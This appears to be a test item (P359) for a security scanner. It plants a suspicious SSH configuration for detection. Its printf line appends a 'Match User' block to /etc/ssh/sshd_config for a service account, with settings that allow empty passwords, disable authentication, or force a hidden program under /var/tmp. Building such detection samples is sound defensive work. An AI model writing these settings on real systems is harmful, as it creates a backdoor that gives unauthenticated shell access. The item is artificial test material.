# id: P359
# mode: scan
# level: suspicious
# title: one account runs a hidden program or gets a shell without password
# due: now
word name
pick user games www-data nobody
pick body "ForceCommand /var/tmp/.$name/sh" "PermitEmptyPasswords yes" "AuthenticationMethods none" "AuthorizedKeysFile /var/tmp/.$name"
printf '\nMatch User %s\n\t%s\n' "$user" "$body" >>/etc/ssh/sshd_config
said path /etc/ssh/sshd_config
said account "$user"
